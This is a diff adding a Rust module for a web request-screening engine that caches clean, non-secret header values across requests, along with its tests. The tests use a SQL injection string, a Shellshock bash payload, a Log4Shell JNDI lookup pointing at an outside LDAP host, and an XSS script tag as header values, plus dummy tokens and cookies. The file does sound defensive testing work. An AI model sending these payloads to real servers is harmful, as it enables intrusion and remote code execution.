@@ -1,0 +1,350 @@
+//! Header values found clean, remembered across the requests that one engine and one
+//! policy screen. Browsers and API clients send the same `User-Agent`, `Accept`,
+//! `Sec-CH-UA`... on every request, and those values are the costliest part of a clean
+//! head to inspect; a hit costs a hash and one compare.
+//!
+//! Only headers whose values are public go in (see [`shareable`]): how fast a request is
+//! answered must not tell a client whether someone else recently sent a credential, a
+//! session cookie or a referring URL. Entries compare the whole value, so a value crafted
+//! to collide with a clean one is inspected like any other. The table has a fixed size:
+//! a flood of distinct values only evicts entries (costing the inspections they saved).
+
+use std::hash::{BuildHasher, RandomState};
+use std::sync::{Mutex, OnceLock, PoisonError};
+
+use super::memo::hash;
+
+/// Independently locked parts, so concurrent requests rarely wait on each other.
+const SHARDS: usize = 8;
+/// Sets per shard (a power of two), each of [`WAYS`] entries.
+const SETS: usize = 32;
+const WAYS: usize = 2;
+/// Longest value remembered: 512 entries of at most this many bytes bound the memory.
+pub(super) const MAX_VALUE: usize = 256;
+
+/// Header names (lowercase) whose values are remembered: client capabilities and
+/// preferences, identical across a client's requests and carrying nothing secret.
+const SHAREABLE: &[&str] = &[
+    "accept",
+    "accept-charset",
+    "accept-encoding",
+    "accept-language",
+    "cache-control",
+    "content-type",
+    "dnt",
+    "host",
+    "origin",
+    "pragma",
+    "priority",
+    "sec-ch-ua",
+    "sec-ch-ua-arch",
+    "sec-ch-ua-bitness",
+    "sec-ch-ua-full-version-list",
+    "sec-ch-ua-mobile",
+    "sec-ch-ua-model",
+    "sec-ch-ua-platform",
+    "sec-ch-ua-platform-version",
+    "sec-fetch-dest",
+    "sec-fetch-mode",
+    "sec-fetch-site",
+    "sec-fetch-user",
+    "te",
+    "upgrade-insecure-requests",
+    "user-agent",
+    "x-requested-with",
+];
+
+/// Whether values of the header `name` (as [`crate::extract`] names it: lowercase) may
+/// be remembered across requests.
+pub(super) fn shareable(name: &str) -> bool {
+    SHAREABLE.contains(&name)
+}
+
+/// Clean header values shared by the requests screened with one [`super::Engine`] and one
+/// [`crate::Policy`]. Keep one next to the policy it serves and hand it to every
+/// [`super::Scan`] of that policy ([`super::Scan::sharing`]): the first scan binds it to
+/// its engine and policy, and it refuses to serve scans of any other.
+#[derive(Debug)]
+pub struct SharedMemo {
+    owner: OnceLock<(u64, crate::Policy)>,
+    /// Drawn per memo so that no client can aim values at one set.
+    seed: u64,
+    shards: Box<[Mutex<Shard>]>,
+}
+
+#[derive(Debug)]
+struct Shard {
+    entries: Vec<Option<Entry>>,
+    /// Alternates the way a full set gives up.
+    evict: usize,
+}
+
+#[derive(Debug)]
+struct Entry {
+    hash: u64,
+    /// Decoded bytes the inspection charged to its budget.
+    charged: u32,
+    value: Box<[u8]>,
+}
+
+impl Default for SharedMemo {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl SharedMemo {
+    /// An empty memo, not yet bound to an engine and a policy.
+    pub fn new() -> SharedMemo {
+        let shards = (0..SHARDS)
+            .map(|_| {
+                Mutex::new(Shard {
+                    entries: (0..SETS * WAYS).map(|_| None).collect(),
+                    evict: 0,
+                })
+            })
+            .collect();
+        SharedMemo {
+            owner: OnceLock::new(),
+            seed: RandomState::new().hash_one(0x5eed_u64),
+            shards,
+        }
+    }
+
+    /// Whether this memo may serve scans of `engine` under `policy` (binding it to them
+    /// if no scan used it yet).
+    pub(super) fn serves(&self, engine: u64, policy: &crate::Policy) -> bool {
+        let (e, p) = self.owner.get_or_init(|| (engine, policy.clone()));
+        *e == engine && *p == *policy
+    }
+
+    fn place(&self, value: &[u8]) -> (u64, &Mutex<Shard>, usize) {
+        let h = hash(self.seed, value);
+        let shard = (h >> 61) as usize % SHARDS;
+        let set = (h as usize % SETS) * WAYS;
+        (h, &self.shards[shard], set)
+    }
+
+    /// The decoded bytes `value` charged when it was found clean, if it was.
+    pub(super) fn lookup(&self, value: &[u8]) -> Option<usize> {
+        if value.is_empty() || value.len() > MAX_VALUE {
+            return None;
+        }
+        let (h, shard, set) = self.place(value);
+        let shard = shard.lock().unwrap_or_else(PoisonError::into_inner);
+        shard.entries[set..set + WAYS]
+            .iter()
+            .flatten()
+            .find(|e| e.hash == h && *e.value == *value)
+            .map(|e| e.charged as usize)
+    }
+
+    /// Remembers `value` as clean, its inspection having charged `charged` bytes.
+    pub(super) fn insert(&self, value: &[u8], charged: usize) {
+        let Ok(charged) = u32::try_from(charged) else {
+            return;
+        };
+        if value.is_empty() || value.len() > MAX_VALUE {
+            return;
+        }
+        let (h, shard, set) = self.place(value);
+        let mut shard = shard.lock().unwrap_or_else(PoisonError::into_inner);
+        let ways = set..set + WAYS;
+        if shard.entries[ways.clone()]
+            .iter()
+            .flatten()
+            .any(|e| e.hash == h && *e.value == *value)
+        {
+            // Another request got there first.
+            return;
+        }
+        let way = match shard.entries[ways].iter().position(Option::is_none) {
+            Some(free) => free,
+            None => {
+                shard.evict = (shard.evict + 1) % WAYS;
+                shard.evict
+            }
+        };
+        shard.entries[set + way] = Some(Entry {
+            hash: h,
+            charged,
+            value: value.into(),
+        });
+    }
+
+    /// Values remembered (for tests).
+    #[cfg(test)]
+    pub(super) fn len(&self) -> usize {
+        self.shards
+            .iter()
+            .map(|s| {
+                let s = s.lock().unwrap_or_else(PoisonError::into_inner);
+                s.entries.iter().flatten().count()
+            })
+            .sum()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, reason = "test")]
+
+    use super::{MAX_VALUE, SETS, SHARDS, SharedMemo, WAYS};
+    use crate::{Budget, Engine, Field, FieldKind, Findings, Location, Policy};
+
+    const CHROME: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36";
+
+    /// One rule matching `evil-marker`, so that which values hit is obvious.
+    const MARKER_RULE: &str = r#"
+[[rule]]
+id = "test-001"
+description = "marker"
+class = "test"
+targets = ["all"]
+paranoia = 1
+score = 5
+pattern = 'evil-marker'
+literals = ["evil-marker"]
+"#;
+
+    fn headers(pairs: &[(&'static str, &'static str)]) -> Vec<Field<'static>> {
+        pairs
+            .iter()
+            .map(|(n, v)| {
+                Field::new(
+                    Location::new("header", *n),
+                    FieldKind::HeaderValue,
+                    v.as_bytes(),
+                )
+            })
+            .collect()
+    }
+
+    fn scan(
+        engine: &Engine,
+        policy: &Policy,
+        memo: Option<&SharedMemo>,
+        fields: &[Field<'_>],
+    ) -> Findings {
+        let mut budget = Budget::default();
+        let mut scan = engine.scan(policy, &mut budget);
+        if let Some(memo) = memo {
+            scan = scan.sharing(memo);
+        }
+        for f in fields {
+            scan.field(f);
+        }
+        scan.finish()
+    }
+
+    #[test]
+    fn remembers_clean_public_headers_only() {
+        let (engine, policy) = (Engine::builtin(), Policy::default());
+        let memo = SharedMemo::new();
+        let head = headers(&[
+            ("user-agent", CHROME),
+            ("accept", "application/json"),
+            // Secrets and URLs: a timing difference must not tell whether they were seen.
+            ("authorization", "Bearer c2VjcmV0LXRva2Vu"),
+            ("cookie", "sid=9f86d081884c7d659a2feaa0c55ad015"),
+            ("referer", "https://shop.example.com/reset?token=abc123"),
+            ("x-api-key", "sk_live_4eC39HqLyjWDarjtT1zdp7dc"),
+        ]);
+        assert!(scan(&engine, &policy, Some(&memo), &head).is_clean());
+        assert_eq!(memo.len(), 2);
+        // The same head again is found clean with the two values remembered.
+        assert!(scan(&engine, &policy, Some(&memo), &head).is_clean());
+        assert_eq!(memo.len(), 2);
+    }
+
+    #[test]
+    fn a_remembered_scan_finds_what_a_fresh_one_finds() {
+        let (engine, policy) = (Engine::builtin(), Policy::default());
+        let memo = SharedMemo::new();
+        let heads: [&[(&'static str, &'static str)]; 6] = [
+            &[("user-agent", CHROME), ("accept", "text/html")],
+            &[("user-agent", "' or 1=1--"), ("accept", "text/html")],
+            &[("user-agent", "() { :; }; /bin/bash -c 'id'")],
+            &[
+                ("accept", "${jndi:ldap://203.0.113.9/a}"),
+                ("user-agent", CHROME),
+            ],
+            &[(
+                "sec-ch-ua",
+                "\"Chromium\";v=\"122\", \"Not(A:Brand\";v=\"24\"",
+            )],
+            &[
+                ("user-agent", "<script>alert(1)</script>"),
+                ("accept", "text/html"),
+            ],
+        ];
+        // Twice round: the second time every clean value comes from the memo.
+        for _ in 0..2 {
+            for head in heads {
+                let fields = headers(head);
+                let fresh = scan(&engine, &policy, None, &fields);
+                let shared = scan(&engine, &policy, Some(&memo), &fields);
+                assert_eq!(shared, fresh, "{head:?}");
+            }
+        }
+        // The clean values only: the Chrome agent, text/html, the client hints.
+        assert_eq!(memo.len(), 3);
+    }
+
+    #[test]
+    fn serves_only_the_engine_and_policy_it_was_made_for() {
+        let plain = Engine::from_rules("").unwrap();
+        let marking = Engine::from_rules(MARKER_RULE).unwrap();
+        let policy = Policy::default();
+        let fields = headers(&[("user-agent", "evil-marker")]);
+        // Clean under the engine without the rule, and remembered as such...
+        let memo = SharedMemo::new();
+        assert!(scan(&plain, &policy, Some(&memo), &fields).is_clean());
+        assert_eq!(memo.len(), 1);
+        // ...which must not hide it from the engine that has the rule.
+        assert!(scan(&marking, &policy, Some(&memo), &fields).blocks(5));
+
+        // Likewise a policy that turns the rule off, then one that does not.
+        let off = Policy::from_toml("disabled_rules = [\"test-001\"]", &marking).unwrap();
+        let memo = SharedMemo::new();
+        assert!(scan(&marking, &off, Some(&memo), &fields).is_clean());
+        assert_eq!(memo.len(), 1);
+        assert!(scan(&marking, &policy, Some(&memo), &fields).blocks(5));
+    }
+
+    #[test]
+    fn a_value_clean_only_where_a_rule_is_excluded_is_not_remembered() {
+        let engine = Engine::from_rules(MARKER_RULE).unwrap();
+        let policy = Policy::from_toml(
+            "[[exclusions]]\nrules = [\"test-001\"]\nlocations = [\"header:user-agent\"]",
+            &engine,
+        )
+        .unwrap();
+        let memo = SharedMemo::new();
+        let excluded = headers(&[("user-agent", "evil-marker")]);
+        assert!(scan(&engine, &policy, Some(&memo), &excluded).is_clean());
+        assert_eq!(memo.len(), 0);
+        // The same value where the rule is not excluded.
+        let elsewhere = headers(&[("accept", "evil-marker")]);
+        assert!(scan(&engine, &policy, Some(&memo), &elsewhere).blocks(5));
+    }
+
+    #[test]
+    fn stays_within_its_size() {
+        let memo = SharedMemo::new();
+        for i in 0..10_000u32 {
+            memo.insert(format!("agent/{i}").as_bytes(), 0);
+        }
+        assert_eq!(memo.len(), SHARDS * SETS * WAYS);
+        // Too long to remember, or empty.
+        let long = "a".repeat(MAX_VALUE + 1);
+        memo.insert(long.as_bytes(), 0);
+        assert_eq!(memo.lookup(long.as_bytes()), None);
+        memo.insert(b"", 0);
+        assert_eq!(memo.lookup(b""), None);
+        // The most recent values are found with their charge; others are not invented.
+        memo.insert(b"agent/latest", 7);
+        assert_eq!(memo.lookup(b"agent/latest"), Some(7));
+        assert_eq!(memo.lookup(b"agent/never-sent"), None);
+    }
+}
